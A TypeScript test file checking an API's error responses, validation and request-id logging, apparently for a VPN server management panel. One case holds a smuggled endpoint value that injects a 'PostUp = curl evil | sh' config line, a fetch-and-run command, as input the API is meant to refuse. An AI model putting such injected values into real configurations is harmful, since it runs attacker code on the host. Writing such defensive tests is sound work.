import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { type AppUnderTest, buildTestApp } from '../support/app.ts';
import { createTestDatabase, type TestDatabase } from '../support/databases.ts';
import { logged } from '../support/panel.ts';

interface Case {
  name: string;
  method: 'GET' | 'POST' | 'PATCH';
  path: string;
  /** Raw body text; sent as JSON unless contentType says otherwise. */
  body?: string;
  contentType?: string;
  noKey?: boolean;
  status: number;
  code: string;
  fields?: Record<string, string>;
}

const CASES: Case[] = [
  { name: 'unknown route', method: 'GET', path: '/api/v1/nope', status: 404, code: 'not_found' },
  {
    name: 'unknown route without a key',
    method: 'GET',
    path: '/api/v2/servers',
    noKey: true,
    status: 404,
    code: 'not_found',
  },
  { name: 'unknown resource', method: 'GET', path: '/api/v1/servers/999999', status: 404, code: 'not_found' },
  { name: 'id 0', method: 'GET', path: '/api/v1/servers/0', status: 404, code: 'not_found' },
  { name: 'id not a number', method: 'GET', path: '/api/v1/servers/abc', status: 404, code: 'not_found' },
  {
    name: 'id beyond 2^53',
    method: 'PATCH',
    path: '/api/v1/servers/99999999999999999999',
    body: '{}',
    status: 404,
    code: 'not_found',
  },
  {
    name: 'malformed JSON',
    method: 'POST',
    path: '/api/v1/servers',
    body: '{"name": "x",',
    status: 400,
    code: 'bad_request',
  },
  {
    name: 'JSON that is not an object',
    method: 'POST',
    path: '/api/v1/servers',
    body: '[1,2]',
    status: 422,
    code: 'validation_failed',
  },
  {
    name: 'not JSON at all',
    method: 'POST',
    path: '/api/v1/servers',
    body: 'name=x',
    contentType: 'application/x-www-form-urlencoded',
    status: 400,
    code: 'bad_request',
  },
  {
    name: 'over-large body',
    method: 'POST',
    path: '/api/v1/servers',
    body: JSON.stringify({ name: 'x', city: 'y'.repeat(70_000) }),
    status: 413,
    code: 'payload_too_large',
  },
  {
    name: 'unknown body fields are named',
    method: 'POST',
    path: '/api/v1/servers',
    body: '{"name":"x","colour":"red","node":{"id":1}}',
    status: 422,
    code: 'validation_failed',
    fields: { colour: 'unknown field', node: 'unknown field' },
  },
  {
    name: 'missing required field',
    method: 'POST',
    path: '/api/v1/servers',
    body: '{}',
    status: 422,
    code: 'validation_failed',
    fields: { name: 'required' },
  },
  {
    name: 'a number sent as a string',
    method: 'POST',
    path: '/api/v1/servers',
    body: '{"name":"x","mtu":"1420"}',
    status: 422,
    code: 'validation_failed',
    fields: { mtu: 'must be integer' },
  },
  {
    name: 'out-of-range body value',
    method: 'PATCH',
    path: '/api/v1/servers/1',
    body: '{"listen_port":70000}',
    status: 422,
    code: 'validation_failed',
  },
  {
    name: 'an endpoint that would inject a config line',
    method: 'POST',
    path: '/api/v1/servers',
    body: JSON.stringify({ name: 'x', endpoint: 'vpn.example.com\nPostUp = curl evil | sh' }),
    status: 422,
    code: 'validation_failed',
  },
  // schemathesis: the document marks a PATCH's body required, and one sent without was taken as a change of nothing.
  {
    name: 'a PATCH without a body',
    method: 'PATCH',
    path: '/api/v1/servers/1',
    status: 422,
    code: 'validation_failed',
    fields: { body: 'required' },
  },
  // A JSON escape of a lone surrogate, refused by the body parser now that the document's pattern leaves them out.
  {
    name: 'a lone surrogate in a text field',
    method: 'PATCH',
    path: '/api/v1/servers/1',
    body: '{"city":"Ber\\ud800lin"}',
    status: 422,
    code: 'validation_failed',
    fields: { city: 'lone surrogate' },
  },
  {
    name: 'a lone surrogate deep in metadata, as a key',
    method: 'POST',
    path: '/api/v1/devices',
    body: '{"server_id":1,"metadata":{"a":[{"\\udc00":1}]}}',
    status: 422,
    code: 'validation_failed',
    fields: { 'metadata.a.0.\udc00': 'lone surrogate' },
  },
  {
    name: 'an endpoint with a port',
    method: 'PATCH',
    path: '/api/v1/servers/1',
    body: '{"endpoint":"vpn.example.com:51820"}',
    status: 422,
    code: 'validation_failed',
  },
  { name: 'limit 0', method: 'GET', path: '/api/v1/servers?limit=0', status: 400, code: 'bad_request' },
  { name: 'limit 201', method: 'GET', path: '/api/v1/events?limit=201', status: 400, code: 'bad_request' },
  { name: 'limit not a number', method: 'GET', path: '/api/v1/events?limit=ten', status: 400, code: 'bad_request' },
  { name: 'negative cursor', method: 'GET', path: '/api/v1/events?after=-1', status: 400, code: 'bad_request' },
  {
    name: 'unknown query parameter',
    method: 'GET',
    path: '/api/v1/servers?colour=red',
    status: 400,
    code: 'bad_request',
    fields: { colour: 'unknown field' },
  },
  {
    name: 'unknown event kind',
    method: 'GET',
    path: '/api/v1/events?kind=device.created,device.exploded',
    status: 400,
    code: 'bad_request',
  },
  // schemathesis: `kind` was any text in the document; its pattern now lists the kinds, spaces only around them.
  {
    name: 'an event kind with a no-break space around it',
    method: 'GET',
    path: '/api/v1/events?kind=%C2%A0device.created',
    status: 400,
    code: 'bad_request',
  },
];

describe('error bodies and codes (in process)', () => {
  let db: TestDatabase;
  let panel: AppUnderTest;
  let key: string;
  before(async () => {
    db = await createTestDatabase('sqlite');
    panel = await buildTestApp(db);
    key = await panel.createKey('errors', 'all', { rateLimitExempt: true });
    const created = await panel.app.inject({
      method: 'POST',
      url: '/api/v1/servers',
      headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
      payload: '{"name":"existing"}',
    });
    assert.equal(created.statusCode, 201);
  });
  after(async () => {
    await panel.close();
    await db.drop();
  });

  for (const c of CASES) {
    it(`${c.name}: ${c.status} ${c.code}`, async () => {
      const headers: Record<string, string> = {};
      if (!c.noKey) headers.authorization = `Bearer ${key}`;
      if (c.body !== undefined) headers['content-type'] = c.contentType ?? 'application/json';
      const response = await panel.app.inject({ method: c.method, url: c.path, headers, payload: c.body });
      const text = response.body;
      assert.equal(response.statusCode, c.status, text);
      assert.match(response.headers['content-type'] ?? '', /^application\/json/);
      const body = JSON.parse(text);
      assert.deepEqual(Object.keys(body), ['error']);
      assert.deepEqual(Object.keys(body.error).sort(), ['code', 'fields', 'message']);
      assert.equal(body.error.code, c.code);
      assert.equal(typeof body.error.message, 'string');
      assert.equal(typeof body.error.fields, 'object');
      for (const [field, problem] of Object.entries(c.fields ?? {}))
        assert.equal(body.error.fields[field], problem, `fields.${field}`);
      assert.doesNotMatch(text, /\n\s+at |node_modules|\.ts:\d+/, 'no stack trace');
    });
  }

  it('changes nothing on a refused request', async () => {
    const servers = panel.client(key);
    const list = async () => (await servers.GET('/api/v1/servers')).data?.data.length;
    const before = await list();
    assert.equal(typeof before, 'number');
    const refused = await panel.app.inject({
      method: 'POST',
      url: '/api/v1/servers',
      headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
      payload: '{"name":"x","bogus":1}',
    });
    assert.equal(refused.statusCode, 422);
    assert.equal(await list(), before);
  });

  it('gives every answer a request id, echoing a sane one given by the client', async () => {
    const echoed = await panel.app.inject({
      method: 'GET',
      url: '/api/v1/nope',
      headers: { 'x-request-id': 'shop-order-42' },
    });
    assert.equal(echoed.headers['x-request-id'], 'shop-order-42');
    const made = await panel.app.inject({
      method: 'GET',
      url: '/api/v1/nope',
      headers: { 'x-request-id': 'bad id with spaces' },
    });
    assert.match(String(made.headers['x-request-id']), /^[0-9a-f-]{36}$/);
  });
});

describe('request ids in the log', () => {
  let db: TestDatabase;
  let panel: AppUnderTest;
  before(async () => {
    db = await createTestDatabase('sqlite');
    // At info, the production default, every request is logged: its lines must carry its id.
    panel = await buildTestApp(db, { LOG_LEVEL: 'info' });
  });
  after(async () => {
    await panel.close();
    await db.drop();
  });

  it('logs each request with its id, the one the client gave or a made one', async () => {
    const echoed = await panel.app.inject({
      method: 'GET',
      url: '/api/v1/nope',
      headers: { 'x-request-id': 'shop-order-42' },
    });
    assert.equal(echoed.headers['x-request-id'], 'shop-order-42');
    const made = await panel.app.inject({
      method: 'GET',
      url: '/api/v1/nope',
      headers: { 'x-request-id': 'bad id with spaces' },
    });
    const madeId = String(made.headers['x-request-id']);
    assert.match(madeId, /^[0-9a-f-]{36}$/);
    for (const id of ['shop-order-42', madeId]) {
      await logged(panel, (line) => line.reqId === id && line.msg === 'request completed');
    }
  });
});
